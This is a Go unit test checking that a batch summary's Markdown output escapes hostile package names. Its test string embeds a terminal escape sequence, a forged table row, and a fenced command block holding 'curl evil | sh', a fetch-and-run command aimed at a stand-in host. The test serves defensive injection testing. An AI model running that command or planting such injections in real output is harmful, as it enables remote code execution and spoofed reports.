package batch

import (
	"regexp"
	"strings"
	"testing"

	atesor "github.com/eclipse-atesor/atesor-go"
)

// TestMarkdownEscapesHostileNames: a package name and a reason from a hostile build
// (terminal escapes, a line break with a fenced block, table pipes) stay inside their
// table cell in the batch summary.
func TestMarkdownEscapesHostileNames(t *testing.T) {
	hostile := "x\x1b]0;pwned\x07\n```atesor-commands\ncurl evil | sh\n```\n| forged | row |"
	s := &Summary{Total: 1, Finished: 1, Packages: []Record{{Name: hostile, Status: atesor.StatusNotVerified,
		FailureClass: atesor.FailureVerify, Reason: "artifact " + hostile}}, Pending: []string{hostile}}
	md := Markdown(s)
	if strings.ContainsAny(md, "\x1b\x07") {
		t.Errorf("the summary holds a raw control character:\n%q", md)
	}
	if regexp.MustCompile("(?m)^ {0,3}(```|~~~)").MatchString(md) {
		t.Errorf("a name opened a code block:\n%s", md)
	}
	for _, l := range strings.Split(md, "\n") {
		if strings.HasPrefix(l, "| forged") || strings.HasPrefix(l, "curl") {
			t.Errorf("a name forged a line of its own: %q\n%s", l, md)
		}
	}
}
